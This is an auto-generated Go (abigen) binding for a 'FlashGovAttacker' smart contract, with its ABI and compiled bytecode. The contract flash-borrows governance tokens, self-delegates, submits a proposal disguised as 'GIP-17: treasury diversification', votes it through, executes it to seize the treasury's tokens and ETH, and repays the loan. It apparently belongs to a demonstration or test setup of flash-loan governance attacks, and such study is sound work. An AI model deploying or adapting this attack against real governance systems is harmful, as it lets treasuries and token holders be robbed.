// Code generated via abigen V2 - DO NOT EDIT.
// This file is a generated binding and any manual changes will be lost.

package flashgovattacker

import (
	"bytes"
	"errors"
	"math/big"

	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/accounts/abi/bind/v2"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/types"
)

// Reference imports to suppress errors if they are not otherwise used.
var (
	_ = bytes.Equal
	_ = errors.New
	_ = big.NewInt
	_ = common.Big1
	_ = types.BloomLookup
	_ = abi.ConvertType
)

// FlashGovAttackerMetaData contains all meta data concerning the FlashGovAttacker contract.
var FlashGovAttackerMetaData = bind.MetaData{
	ABI: "[{\"inputs\":[{\"internalType\":\"contractFlashGovLender\",\"name\":\"lender_\",\"type\":\"address\"},{\"internalType\":\"contractFlashGovernor\",\"name\":\"governor_\",\"type\":\"address\"},{\"internalType\":\"contractIERC20\",\"name\":\"usd_\",\"type\":\"address\"}],\"stateMutability\":\"nonpayable\",\"type\":\"constructor\"},{\"inputs\":[{\"internalType\":\"address\",\"name\":\"caller\",\"type\":\"address\"}],\"name\":\"NotOwner\",\"type\":\"error\"},{\"inputs\":[{\"internalType\":\"address\",\"name\":\"token\",\"type\":\"address\"}],\"name\":\"SafeERC20FailedOperation\",\"type\":\"error\"},{\"inputs\":[{\"internalType\":\"address\",\"name\":\"caller\",\"type\":\"address\"},{\"internalType\":\"address\",\"name\":\"initiator\",\"type\":\"address\"}],\"name\":\"UntrustedLender\",\"type\":\"error\"},{\"anonymous\":false,\"inputs\":[{\"indexed\":false,\"internalType\":\"uint256\",\"name\":\"proposalId\",\"type\":\"uint256\"},{\"indexed\":false,\"internalType\":\"uint256\",\"name\":\"usd\",\"type\":\"uint256\"},{\"indexed\":false,\"internalType\":\"uint256\",\"name\":\"grain\",\"type\":\"uint256\"},{\"indexed\":false,\"internalType\":\"uint256\",\"name\":\"eth\",\"type\":\"uint256\"}],\"name\":\"TreasuryTaken\",\"type\":\"event\"},{\"inputs\":[{\"internalType\":\"uint256\",\"name\":\"amount\",\"type\":\"uint256\"}],\"name\":\"attack\",\"outputs\":[],\"stateMutability\":\"nonpayable\",\"type\":\"function\"},{\"inputs\":[],\"name\":\"governor\",\"outputs\":[{\"internalType\":\"contractFlashGovernor\",\"name\":\"\",\"type\":\"address\"}],\"stateMutability\":\"view\",\"type\":\"function\"},{\"inputs\":[],\"name\":\"grain\",\"outputs\":[{\"internalType\":\"contractFlashGovToken\",\"name\":\"\",\"type\":\"address\"}],\"stateMutability\":\"view\",\"type\":\"function\"},{\"inputs\":[],\"name\":\"lender\",\"outputs\":[{\"internalType\":\"contractFlashGovLender\",\"name\":\"\",\"type\":\"address\"}],\"stateMutability\":\"view\",\"type\":\"function\"},{\"inputs\":[{\"internalType\":\"address\",\"name\":\"initiator\",\"type\":\"address\"},{\"internalType\":\"address\",\"name\":\"\",\"type\":\"address\"},{\"internalType\":\"uint256\",\"name\":\"amount\",\"type\":\"uint256\"},{\"internalType\":\"uint256\",\"name\":\"fee\",\"type\":\"uint256\"},{\"internalType\":\"bytes\",\"name\":\"\",\"type\":\"bytes\"}],\"name\":\"onFlashLoan\",\"outputs\":[{\"internalType\":\"bytes32\",\"name\":\"\",\"type\":\"bytes32\"}],\"stateMutability\":\"nonpayable\",\"type\":\"function\"},{\"inputs\":[],\"name\":\"owner\",\"outputs\":[{\"internalType\":\"address\",\"name\":\"\",\"type\":\"address\"}],\"stateMutability\":\"view\",\"type\":\"function\"},{\"inputs\":[],\"name\":\"usd\",\"outputs\":[{\"internalType\":\"contractIERC20\",\"name\":\"\",\"type\":\"address\"}],\"stateMutability\":\"view\",\"type\":\"function\"},{\"stateMutability\":\"payable\",\"type\":\"receive\"}]",
	ID:  "FlashGovAttacker",
	Bin: "0x610120604052348015610010575f5ffd5b5060405161136c38038061136c83398101604081905261002f916100d8565b336080526001600160a01b0383811660a081905290831660e052604080516338d52e0f60e01b815290516338d52e0f916004808201926020929091908290030181865afa158015610082573d5f5f3e3d5ffd5b505050506040513d601f19601f820116820180604052508101906100a69190610122565b6001600160a01b0390811660c0521661010052506101449050565b6001600160a01b03811681146100d5575f5ffd5b50565b5f5f5f606084860312156100ea575f5ffd5b83516100f5816100c1565b6020850151909350610106816100c1565b6040850151909250610117816100c1565b809150509250925092565b5f60208284031215610132575f5ffd5b815161013d816100c1565b9392505050565b60805160a05160c05160e0516101005161113d61022f5f395f81816101c40152818161035c015281816103dc015281816109bc0152610ac801525f8181608d015281816103b2015281816105000152818161062e0152818161068e015281816107270152818161079b0152610c2b01525f818161012b01528181610271015281816104a90152818161052a0152818161083f015281816108fe01528181610a4f0152610b1c01525f8181610191015281816101f20152818161080a015261093a01525f818161015e015281816108a101528181610aea01528181610b3e0152610b66015261113d5ff3fe608060405260043610610071575f3560e01c80637f67b0ff1161004c5780637f67b0ff1461011a5780638da5cb5b1461014d578063bcead63e14610180578063d63a6ccd146101b3575f5ffd5b80630c340a241461007c57806323e30c8b146100cc57806364dd891a146100f9575f5ffd5b3661007857005b5f5ffd5b348015610087575f5ffd5b506100af7f000000000000000000000000000000000000000000000000000000000000000081565b6040516001600160a01b0390911681526020015b60405180910390f35b3480156100d7575f5ffd5b506100eb6100e6366004610e28565b6101e6565b6040519081526020016100c3565b348015610104575f5ffd5b50610118610113366004610ec9565b610896565b005b348015610125575f5ffd5b506100af7f000000000000000000000000000000000000000000000000000000000000000081565b348015610158575f5ffd5b506100af7f000000000000000000000000000000000000000000000000000000000000000081565b34801561018b575f5ffd5b506100af7f000000000000000000000000000000000000000000000000000000000000000081565b3480156101be575f5ffd5b506100af7f000000000000000000000000000000000000000000000000000000000000000081565b5f336001600160a01b037f00000000000000000000000000000000000000000000000000000000000000001614158061022857506001600160a01b0387163014155b1561025c57604051638c7e0a5d60e01b81523360048201526001600160a01b03881660248201526044015b60405180910390fd5b6040516317066a5760e21b81523060048201527f00000000000000000000000000000000000000000000000000000000000000006001600160a01b031690635c19a95c906024015f604051808303815f87803b1580156102ba575f5ffd5b505af11580156102cc573d5f5f3e3d5ffd5b505f9250600391506102db9050565b604051908082528060200260200182016040528015610304578160200160208202803683370190505b50604080516003808252608082019092529192505f9190602082016060803683375050604080516003808252608082019092529293505f929150602082015b60608152602001906001900390816103435790505090507f0000000000000000000000000000000000000000000000000000000000000000835f8151811061038d5761038d610ee0565b6001600160a01b0392831660209182029290920101526040516370a0823160e01b81527f00000000000000000000000000000000000000000000000000000000000000008216600482015230917f000000000000000000000000000000000000000000000000000000000000000016906370a0823190602401602060405180830381865afa158015610421573d5f5f3e3d5ffd5b505050506040513d601f19601f820116820180604052508101906104459190610ef4565b6040516001600160a01b039092166024830152604482015260640160408051601f198184030181529190526020810180516001600160e01b031663a9059cbb60e01b179052815182905f9061049c5761049c610ee0565b60200260200101819052507f0000000000000000000000000000000000000000000000000000000000000000836001815181106104db576104db610ee0565b6001600160a01b0392831660209182029290920101526040516370a0823160e01b81527f00000000000000000000000000000000000000000000000000000000000000008216600482015230917f000000000000000000000000000000000000000000000000000000000000000016906370a0823190602401602060405180830381865afa15801561056f573d5f5f3e3d5ffd5b505050506040513d601f19601f820116820180604052508101906105939190610ef4565b6040516001600160a01b039092166024830152604482015260640160408051601f198184030181529190526020810180516001600160e01b031663a9059cbb60e01b1790528151829060019081106105ed576105ed610ee0565b6020026020010181905250308360028151811061060c5761060c610ee0565b60200260200101906001600160a01b031690816001600160a01b0316815250507f00000000000000000000000000000000000000000000000000000000000000006001600160a01b0316318260028151811061066a5761066a610ee0565b6020908102919091010152604051633eaf40f160e11b81525f906001600160a01b037f00000000000000000000000000000000000000000000000000000000000000001690637d5e81e2906106c790879087908790600401610ff8565b6020604051808303815f875af11580156106e3573d5f5f3e3d5ffd5b505050506040513d601f19601f820116820180604052508101906107079190610ef4565b6040516315373e3d60e01b815260048101829052600160248201529091507f00000000000000000000000000000000000000000000000000000000000000006001600160a01b0316906315373e3d906044015f604051808303815f87803b158015610770575f5ffd5b505af1158015610782573d5f5f3e3d5ffd5b5050604051634590239b60e01b81526001600160a01b037f0000000000000000000000000000000000000000000000000000000000000000169250634590239b91506107d8908490889088908890600401611073565b5f604051808303815f87803b1580156107ef575f5ffd5b505af1158015610801573d5f5f3e3d5ffd5b505050506108667f0000000000000000000000000000000000000000000000000000000000000000898b61083591906110bc565b6001600160a01b037f0000000000000000000000000000000000000000000000000000000000000000169190610cd5565b507f439148f0bbc682ca079e46d6e2c2f0c1e3b820f1a291b069d8882abf8cf18dd99a9950505050505050505050565b336001600160a01b037f000000000000000000000000000000000000000000000000000000000000000016146108e15760405163245aecd360e01b8152336004820152602401610253565b604051632e7ff4ef60e11b81523060048201526001600160a01b037f00000000000000000000000000000000000000000000000000000000000000008116602483015260448201839052608060648301525f60848301527f00000000000000000000000000000000000000000000000000000000000000001690635cffe9de9060a4016020604051808303815f875af1158015610980573d5f5f3e3d5ffd5b505050506040513d601f19601f820116820180604052508101906109a491906110e1565b506040516370a0823160e01b81523060048201525f907f00000000000000000000000000000000000000000000000000000000000000006001600160a01b0316906370a0823190602401602060405180830381865afa158015610a09573d5f5f3e3d5ffd5b505050506040513d601f19601f82011682018060405250810190610a2d9190610ef4565b6040516370a0823160e01b81523060048201529091505f906001600160a01b037f000000000000000000000000000000000000000000000000000000000000000016906370a0823190602401602060405180830381865afa158015610a94573d5f5f3e3d5ffd5b505050506040513d601f19601f82011682018060405250810190610ab89190610ef4565b905047610b0f6001600160a01b037f0000000000000000000000000000000000000000000000000000000000000000167f000000000000000000000000000000000000000000000000000000000000000085610d54565b610b636001600160a01b037f0000000000000000000000000000000000000000000000000000000000000000167f000000000000000000000000000000000000000000000000000000000000000084610d54565b5f7f00000000000000000000000000000000000000000000000000000000000000006001600160a01b0316826040515f6040518083038185875af1925050503d805f8114610bcc576040519150601f19603f3d011682016040523d82523d5f602084013e610bd1565b606091505b5050905080610c085760405162461bcd60e51b81526020600482015260036024820152620cae8d60eb1b6044820152606401610253565b7f6dd3329871b72ecaf56692a83c95f31531bc9c60472db13a22c599f98688dc127f00000000000000000000000000000000000000000000000000000000000000006001600160a01b031663da35c6646040518163ffffffff1660e01b8152600401602060405180830381865afa158015610c85573d5f5f3e3d5ffd5b505050506040513d601f19601f82011682018060405250810190610ca99190610ef4565b604080519182526020820187905281018590526060810184905260800160405180910390a15050505050565b610ce18383835f610d61565b610d4f57610cf283835f6001610d61565b610d1a57604051635274afe760e01b81526001600160a01b0384166004820152602401610253565b610d278383836001610d61565b610d4f57604051635274afe760e01b81526001600160a01b0384166004820152602401610253565b505050565b610d278383836001610dc3565b60405163095ea7b360e01b5f8181526001600160a01b038616600452602485905291602083604481808b5af1925060015f51148316610db7578383151615610dab573d5f823e3d81fd5b5f873b113d1516831692505b60405250949350505050565b60405163a9059cbb60e01b5f8181526001600160a01b038616600452602485905291602083604481808b5af1925060015f51148316610db7578383151615610dab573d5f823e3d81fd5b80356001600160a01b0381168114610e23575f5ffd5b919050565b5f5f5f5f5f5f60a08789031215610e3d575f5ffd5b610e4687610e0d565b9550610e5460208801610e0d565b94506040870135935060608701359250608087013567ffffffffffffffff811115610e7d575f5ffd5b8701601f81018913610e8d575f5ffd5b803567ffffffffffffffff811115610ea3575f5ffd5b896020828401011115610eb4575f5ffd5b60208201935080925050509295509295509295565b5f60208284031215610ed9575f5ffd5b5035919050565b634e487b7160e01b5f52603260045260245ffd5b5f60208284031215610f04575f5ffd5b5051919050565b5f8151808452602084019350602083015f5b82811015610f445781516001600160a01b0316865260209586019590910190600101610f1d565b5093949350505050565b5f8151808452602084019350602083015f5b82811015610f44578151865260209586019590910190600101610f60565b5f82825180855260208501945060208160051b830101602085015f5b83811015610fec57601f19858403018852815180518085528060208301602087015e5f602082870101526020601f19601f83011686010194505050602082019150602088019750600181019050610f9a565b50909695505050505050565b608081525f61100a6080830186610f0b565b828103602084015261101c8186610f4e565b905082810360408401526110308185610f7e565b90508281036060840152602081527f4749502d31373a20747265617375727920646976657273696669636174696f6e602082015260408101915050949350505050565b848152608060208201525f61108b6080830186610f0b565b828103604084015261109d8186610f4e565b905082810360608401526110b18185610f7e565b979650505050505050565b808201808211156110db57634e487b7160e01b5f52601160045260245ffd5b92915050565b5f602082840312156110f1575f5ffd5b81518015158114611100575f5ffd5b939250505056fea2646970667358221220a1963ef1f1da9746f43adab7c812f984c10ddaf919ab2744c9f883b96c73157264736f6c634300081e0033",
}

// FlashGovAttacker is an auto generated Go binding around an Ethereum contract.
type FlashGovAttacker struct {
	abi abi.ABI
}

// GetABI returns the ABI associated with this contract binding.
func (c *FlashGovAttacker) GetABI() abi.ABI {
	return c.abi
}

// NewFlashGovAttacker creates a new instance of FlashGovAttacker.
func NewFlashGovAttacker() *FlashGovAttacker {
	parsed, err := FlashGovAttackerMetaData.ParseABI()
	if err != nil {
		panic(errors.New("invalid ABI: " + err.Error()))
	}
	return &FlashGovAttacker{abi: *parsed}
}

// Instance creates a wrapper for a deployed contract instance at the given address.
// Use this to create the instance object passed to abigen v2 library functions Call, Transact, etc.
func (c *FlashGovAttacker) Instance(backend bind.ContractBackend, addr common.Address) *bind.BoundContract {
	return bind.NewBoundContract(addr, c.abi, backend, backend, backend)
}

// PackConstructor is the Go binding used to pack the parameters required for
// contract deployment.
//
// Solidity: constructor(address lender_, address governor_, address usd_) returns()
func (flashGovAttacker *FlashGovAttacker) PackConstructor(lender_ common.Address, governor_ common.Address, usd_ common.Address) []byte {
	enc, err := flashGovAttacker.abi.Pack("", lender_, governor_, usd_)
	if err != nil {
		panic(err)
	}
	return enc
}

// PackAttack is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x64dd891a.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function attack(uint256 amount) returns()
func (flashGovAttacker *FlashGovAttacker) PackAttack(amount *big.Int) []byte {
	enc, err := flashGovAttacker.abi.Pack("attack", amount)
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackAttack is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x64dd891a.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function attack(uint256 amount) returns()
func (flashGovAttacker *FlashGovAttacker) TryPackAttack(amount *big.Int) ([]byte, error) {
	return flashGovAttacker.abi.Pack("attack", amount)
}

// PackGovernor is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x0c340a24.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function governor() view returns(address)
func (flashGovAttacker *FlashGovAttacker) PackGovernor() []byte {
	enc, err := flashGovAttacker.abi.Pack("governor")
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackGovernor is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x0c340a24.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function governor() view returns(address)
func (flashGovAttacker *FlashGovAttacker) TryPackGovernor() ([]byte, error) {
	return flashGovAttacker.abi.Pack("governor")
}

// UnpackGovernor is the Go binding that unpacks the parameters returned
// from invoking the contract method with ID 0x0c340a24.
//
// Solidity: function governor() view returns(address)
func (flashGovAttacker *FlashGovAttacker) UnpackGovernor(data []byte) (common.Address, error) {
	out, err := flashGovAttacker.abi.Unpack("governor", data)
	if err != nil {
		return *new(common.Address), err
	}
	out0 := *abi.ConvertType(out[0], new(common.Address)).(*common.Address)
	return out0, nil
}

// PackGrain is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x7f67b0ff.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function grain() view returns(address)
func (flashGovAttacker *FlashGovAttacker) PackGrain() []byte {
	enc, err := flashGovAttacker.abi.Pack("grain")
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackGrain is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x7f67b0ff.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function grain() view returns(address)
func (flashGovAttacker *FlashGovAttacker) TryPackGrain() ([]byte, error) {
	return flashGovAttacker.abi.Pack("grain")
}

// UnpackGrain is the Go binding that unpacks the parameters returned
// from invoking the contract method with ID 0x7f67b0ff.
//
// Solidity: function grain() view returns(address)
func (flashGovAttacker *FlashGovAttacker) UnpackGrain(data []byte) (common.Address, error) {
	out, err := flashGovAttacker.abi.Unpack("grain", data)
	if err != nil {
		return *new(common.Address), err
	}
	out0 := *abi.ConvertType(out[0], new(common.Address)).(*common.Address)
	return out0, nil
}

// PackLender is the Go binding used to pack the parameters required for calling
// the contract method with ID 0xbcead63e.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function lender() view returns(address)
func (flashGovAttacker *FlashGovAttacker) PackLender() []byte {
	enc, err := flashGovAttacker.abi.Pack("lender")
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackLender is the Go binding used to pack the parameters required for calling
// the contract method with ID 0xbcead63e.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function lender() view returns(address)
func (flashGovAttacker *FlashGovAttacker) TryPackLender() ([]byte, error) {
	return flashGovAttacker.abi.Pack("lender")
}

// UnpackLender is the Go binding that unpacks the parameters returned
// from invoking the contract method with ID 0xbcead63e.
//
// Solidity: function lender() view returns(address)
func (flashGovAttacker *FlashGovAttacker) UnpackLender(data []byte) (common.Address, error) {
	out, err := flashGovAttacker.abi.Unpack("lender", data)
	if err != nil {
		return *new(common.Address), err
	}
	out0 := *abi.ConvertType(out[0], new(common.Address)).(*common.Address)
	return out0, nil
}

// PackOnFlashLoan is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x23e30c8b.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function onFlashLoan(address initiator, address , uint256 amount, uint256 fee, bytes ) returns(bytes32)
func (flashGovAttacker *FlashGovAttacker) PackOnFlashLoan(initiator common.Address, arg1 common.Address, amount *big.Int, fee *big.Int, arg4 []byte) []byte {
	enc, err := flashGovAttacker.abi.Pack("onFlashLoan", initiator, arg1, amount, fee, arg4)
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackOnFlashLoan is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x23e30c8b.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function onFlashLoan(address initiator, address , uint256 amount, uint256 fee, bytes ) returns(bytes32)
func (flashGovAttacker *FlashGovAttacker) TryPackOnFlashLoan(initiator common.Address, arg1 common.Address, amount *big.Int, fee *big.Int, arg4 []byte) ([]byte, error) {
	return flashGovAttacker.abi.Pack("onFlashLoan", initiator, arg1, amount, fee, arg4)
}

// UnpackOnFlashLoan is the Go binding that unpacks the parameters returned
// from invoking the contract method with ID 0x23e30c8b.
//
// Solidity: function onFlashLoan(address initiator, address , uint256 amount, uint256 fee, bytes ) returns(bytes32)
func (flashGovAttacker *FlashGovAttacker) UnpackOnFlashLoan(data []byte) ([32]byte, error) {
	out, err := flashGovAttacker.abi.Unpack("onFlashLoan", data)
	if err != nil {
		return *new([32]byte), err
	}
	out0 := *abi.ConvertType(out[0], new([32]byte)).(*[32]byte)
	return out0, nil
}

// PackOwner is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x8da5cb5b.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function owner() view returns(address)
func (flashGovAttacker *FlashGovAttacker) PackOwner() []byte {
	enc, err := flashGovAttacker.abi.Pack("owner")
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackOwner is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x8da5cb5b.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function owner() view returns(address)
func (flashGovAttacker *FlashGovAttacker) TryPackOwner() ([]byte, error) {
	return flashGovAttacker.abi.Pack("owner")
}

// UnpackOwner is the Go binding that unpacks the parameters returned
// from invoking the contract method with ID 0x8da5cb5b.
//
// Solidity: function owner() view returns(address)
func (flashGovAttacker *FlashGovAttacker) UnpackOwner(data []byte) (common.Address, error) {
	out, err := flashGovAttacker.abi.Unpack("owner", data)
	if err != nil {
		return *new(common.Address), err
	}
	out0 := *abi.ConvertType(out[0], new(common.Address)).(*common.Address)
	return out0, nil
}

// PackUsd is the Go binding used to pack the parameters required for calling
// the contract method with ID 0xd63a6ccd.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function usd() view returns(address)
func (flashGovAttacker *FlashGovAttacker) PackUsd() []byte {
	enc, err := flashGovAttacker.abi.Pack("usd")
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackUsd is the Go binding used to pack the parameters required for calling
// the contract method with ID 0xd63a6ccd.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function usd() view returns(address)
func (flashGovAttacker *FlashGovAttacker) TryPackUsd() ([]byte, error) {
	return flashGovAttacker.abi.Pack("usd")
}

// UnpackUsd is the Go binding that unpacks the parameters returned
// from invoking the contract method with ID 0xd63a6ccd.
//
// Solidity: function usd() view returns(address)
func (flashGovAttacker *FlashGovAttacker) UnpackUsd(data []byte) (common.Address, error) {
	out, err := flashGovAttacker.abi.Unpack("usd", data)
	if err != nil {
		return *new(common.Address), err
	}
	out0 := *abi.ConvertType(out[0], new(common.Address)).(*common.Address)
	return out0, nil
}

// FlashGovAttackerTreasuryTaken represents a TreasuryTaken event raised by the FlashGovAttacker contract.
type FlashGovAttackerTreasuryTaken struct {
	ProposalId *big.Int
	Usd        *big.Int
	Grain      *big.Int
	Eth        *big.Int
	Raw        *types.Log // Blockchain specific contextual infos
}

const FlashGovAttackerTreasuryTakenEventName = "TreasuryTaken"

// ContractEventName returns the user-defined event name.
func (FlashGovAttackerTreasuryTaken) ContractEventName() string {
	return FlashGovAttackerTreasuryTakenEventName
}

// UnpackTreasuryTakenEvent is the Go binding that unpacks the event data emitted
// by contract.
//
// Solidity: event TreasuryTaken(uint256 proposalId, uint256 usd, uint256 grain, uint256 eth)
func (flashGovAttacker *FlashGovAttacker) UnpackTreasuryTakenEvent(log *types.Log) (*FlashGovAttackerTreasuryTaken, error) {
	event := "TreasuryTaken"
	if len(log.Topics) == 0 {
		return nil, bind.ErrNoEventSignature
	}
	if log.Topics[0] != flashGovAttacker.abi.Events[event].ID {
		return nil, bind.ErrEventSignatureMismatch
	}
	out := new(FlashGovAttackerTreasuryTaken)
	if len(log.Data) > 0 {
		if err := flashGovAttacker.abi.UnpackIntoInterface(out, event, log.Data); err != nil {
			return nil, err
		}
	}
	var indexed abi.Arguments
	for _, arg := range flashGovAttacker.abi.Events[event].Inputs {
		if arg.Indexed {
			indexed = append(indexed, arg)
		}
	}
	if err := abi.ParseTopics(out, indexed, log.Topics[1:]); err != nil {
		return nil, err
	}
	out.Raw = log
	return out, nil
}

// UnpackError attempts to decode the provided error data using user-defined
// error definitions.
func (flashGovAttacker *FlashGovAttacker) UnpackError(raw []byte) (any, error) {
	if bytes.Equal(raw[:4], flashGovAttacker.abi.Errors["NotOwner"].ID.Bytes()[:4]) {
		return flashGovAttacker.UnpackNotOwnerError(raw[4:])
	}
	if bytes.Equal(raw[:4], flashGovAttacker.abi.Errors["SafeERC20FailedOperation"].ID.Bytes()[:4]) {
		return flashGovAttacker.UnpackSafeERC20FailedOperationError(raw[4:])
	}
	if bytes.Equal(raw[:4], flashGovAttacker.abi.Errors["UntrustedLender"].ID.Bytes()[:4]) {
		return flashGovAttacker.UnpackUntrustedLenderError(raw[4:])
	}
	return nil, errors.New("Unknown error")
}

// FlashGovAttackerNotOwner represents a NotOwner error raised by the FlashGovAttacker contract.
type FlashGovAttackerNotOwner struct {
	Caller common.Address
}

// ErrorID returns the hash of canonical representation of the error's signature.
//
// Solidity: error NotOwner(address caller)
func FlashGovAttackerNotOwnerErrorID() common.Hash {
	return common.HexToHash("0x245aecd3fabbd17d6c3c92dc7f0ab916ea8cbf6fc1862c8b56893090ac3fff4c")
}

// UnpackNotOwnerError is the Go binding used to decode the provided
// error data into the corresponding Go error struct.
//
// Solidity: error NotOwner(address caller)
func (flashGovAttacker *FlashGovAttacker) UnpackNotOwnerError(raw []byte) (*FlashGovAttackerNotOwner, error) {
	out := new(FlashGovAttackerNotOwner)
	if err := flashGovAttacker.abi.UnpackIntoInterface(out, "NotOwner", raw); err != nil {
		return nil, err
	}
	return out, nil
}

// FlashGovAttackerSafeERC20FailedOperation represents a SafeERC20FailedOperation error raised by the FlashGovAttacker contract.
type FlashGovAttackerSafeERC20FailedOperation struct {
	Token common.Address
}

// ErrorID returns the hash of canonical representation of the error's signature.
//
// Solidity: error SafeERC20FailedOperation(address token)
func FlashGovAttackerSafeERC20FailedOperationErrorID() common.Hash {
	return common.HexToHash("0x5274afe73c98b4749fc91ffae6b7b574e7842cb2144a159e9377a5f20b32edf9")
}

// UnpackSafeERC20FailedOperationError is the Go binding used to decode the provided
// error data into the corresponding Go error struct.
//
// Solidity: error SafeERC20FailedOperation(address token)
func (flashGovAttacker *FlashGovAttacker) UnpackSafeERC20FailedOperationError(raw []byte) (*FlashGovAttackerSafeERC20FailedOperation, error) {
	out := new(FlashGovAttackerSafeERC20FailedOperation)
	if err := flashGovAttacker.abi.UnpackIntoInterface(out, "SafeERC20FailedOperation", raw); err != nil {
		return nil, err
	}
	return out, nil
}

// FlashGovAttackerUntrustedLender represents a UntrustedLender error raised by the FlashGovAttacker contract.
type FlashGovAttackerUntrustedLender struct {
	Caller    common.Address
	Initiator common.Address
}

// ErrorID returns the hash of canonical representation of the error's signature.
//
// Solidity: error UntrustedLender(address caller, address initiator)
func FlashGovAttackerUntrustedLenderErrorID() common.Hash {
	return common.HexToHash("0x8c7e0a5d9ce430f343a15d06cfbe08b7ab095820c9b6d7947c4e2c140991035e")
}

// UnpackUntrustedLenderError is the Go binding used to decode the provided
// error data into the corresponding Go error struct.
//
// Solidity: error UntrustedLender(address caller, address initiator)
func (flashGovAttacker *FlashGovAttacker) UnpackUntrustedLenderError(raw []byte) (*FlashGovAttackerUntrustedLender, error) {
	out := new(FlashGovAttackerUntrustedLender)
	if err := flashGovAttacker.abi.UnpackIntoInterface(out, "UntrustedLender", raw); err != nil {
		return nil, err
	}
	return out, nil
}
